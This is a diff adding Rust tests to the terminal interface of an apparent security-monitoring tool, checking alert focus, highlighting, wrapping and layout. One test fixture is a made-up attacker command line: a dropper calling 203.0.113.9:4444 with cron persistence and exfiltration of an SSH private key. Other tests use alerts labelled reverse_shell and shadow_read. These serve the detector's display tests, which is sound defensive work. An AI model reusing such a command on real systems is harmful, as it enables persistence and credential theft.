@@ -131,6 +131,106 @@ fn detail_view_names_the_attack_classification() {
 }
 
 #[test]
+fn alerts_pane_focused_with_a_selection() {
+    let mut app = app();
+    // Tab past the three event panes, drawn (so the strip knows its height), then the second
+    // newest alert.
+    keys(&mut app, "\t\t\t");
+    screen(&app, 80, 24);
+    keys(&mut app, "jj");
+    assert_eq!(app.focus, PaneId::Alerts);
+    snapshot_sizes!("alerts_focused", app);
+    // The selection shows (reversed) on the second alert only.
+    let terminal = screen(&app, 80, 24);
+    let buffer = terminal.backend().buffer();
+    let reversed_rows: Vec<String> = (0..24)
+        .filter(|&y| {
+            buffer[(40, y)]
+                .modifier
+                .contains(ratatui::style::Modifier::REVERSED)
+        })
+        .map(|y| (0..80).map(|x| buffer[(x, y)].symbol()).collect())
+        .collect();
+    assert_eq!(reversed_rows.len(), 1, "{reversed_rows:?}");
+    assert!(
+        reversed_rows[0].contains("shadow_read"),
+        "{reversed_rows:?}"
+    );
+}
+
+/// A command line longer than any screen is wide.
+const LONG_CMDLINE: &str = "/tmp/.x/dropper --connect 203.0.113.9:4444 --retry 30 \
+    --payload /tmp/.x/stage2.bin --persist /etc/cron.d/.update --quiet --no-banner \
+    --exfiltrate /home/alice/.ssh/id_ed25519";
+
+/// `Enter` on the newest alert (the reverse-shell connection, given a long command line):
+/// why it fired, with the command line wrapped under its column.
+#[test]
+fn detail_view_from_an_alert_indents_wrapped_values() {
+    let mut events = sample::events();
+    for event in &mut events {
+        if event.target_port == Some(4444) {
+            event.cmdline = LONG_CMDLINE.into();
+        }
+    }
+    let mut app = sample::app(events);
+    keys(&mut app, "\t\t\t\n");
+    assert_eq!(
+        app.detail
+            .as_ref()
+            .and_then(|d| d.entry.as_ref())
+            .and_then(|e| e.event.target_port),
+        Some(4444)
+    );
+    snapshot_sizes!("detail_from_alert", app);
+    // Every continuation of the command line starts under the value column (the 16th
+    // column inside the border), at 80×24.
+    if let Some(detail) = &mut app.detail {
+        detail.scroll = 10;
+    }
+    let shown = text(screen(&app, 80, 24).backend().buffer());
+    let rows: Vec<&str> = shown.lines().collect();
+    let first = rows
+        .iter()
+        .position(|r| r.contains("command line"))
+        .expect("the command line is in view");
+    let value_column = rows[first].find("/tmp/.x/dropper").expect("its value");
+    let continued: Vec<&&str> = rows[first + 1..]
+        .iter()
+        .take_while(|r| !r.contains("ancestry"))
+        .collect();
+    assert!(continued.len() >= 2, "{shown}");
+    for row in continued {
+        let (indent, text) = row.split_at(value_column);
+        assert!(indent.ends_with(&" ".repeat(15)), "{shown}");
+        assert!(!text.starts_with(' '), "{shown}");
+    }
+}
+
+#[test]
+fn rules_pane_shows_files_relative_to_their_directory() {
+    let dir = "/src/secmon/monitor/../rules";
+    let file = format!("{dir}/credential_access/credential_files.json");
+    let set = crate::rules::RuleSet::from_json(&file, sample::RULES_JSON).expect("valid");
+    let controls = crate::app::Controls {
+        rules: Box::new(crate::rules::RuleEngine::with_set(set, vec![dir.into()])),
+        ..sample::controls()
+    };
+    let mut app = sample::app_with(controls, sample::events());
+    keys(&mut app, "R");
+    let shown = text(screen(&app, 80, 24).backend().buffer());
+    // The end of the path, its file name and line, when the column is narrow.
+    assert!(shown.contains("…ntial_files.json:2"), "{shown}");
+    assert!(!shown.contains(".."), "{shown}");
+    let wide = text(screen(&app, 160, 48).backend().buffer());
+    assert!(
+        wide.contains(" credential_access/credential_files.json:2"),
+        "{wide}"
+    );
+    snapshot_sizes!("rules_relative", app);
+}
+
+#[test]
 fn rules_pane() {
     let mut app = app();
     keys(&mut app, "Rj ");
@@ -276,6 +376,21 @@ fn tiny_screens() {
     }
 }
 
+/// Below 20 lines the alerts strip is not drawn: focused, it takes the body.
+#[test]
+fn focused_alerts_take_the_body_of_a_small_screen() {
+    let mut app = app();
+    keys(&mut app, "\t\t\t");
+    for (w, h) in [(60, 16), (40, 12), (20, 5)] {
+        let shown = text(screen(&app, w, h).backend().buffer());
+        assert!(shown.contains("▶ Alerts"), "{w}x{h}:\n{shown}");
+        if w >= 40 {
+            assert!(shown.contains("dropper"), "{w}x{h}:\n{shown}");
+            assert!(shown.contains("reverse_shell"), "{w}x{h}:\n{shown}");
+        }
+    }
+}
+
 /// Widths and heights around every layout threshold, the extremes, and the common sizes.
 const WIDTHS: &[u16] = &[
     0, 1, 2, 5, 10, 19, 20, 21, 30, 39, 40, 41, 59, 60, 61, 69, 70, 71, 79, 80, 81, 89, 90, 109,
@@ -289,7 +404,17 @@ const HEIGHTS: &[u16] = &[
 #[test]
 fn never_panics_at_any_size() {
     let mut apps = Vec::new();
-    for setup in ["", "?", "\n", "R", "\t\tjjj\n", "/x", " "] {
+    for setup in [
+        "",
+        "?",
+        "\n",
+        "R",
+        "\t\tjjj\n",
+        "/x",
+        " ",
+        "\t\t\tj",
+        "\t\t\tj\n",
+    ] {
         let mut app = app();
         keys(&mut app, setup);
         apps.push(app);
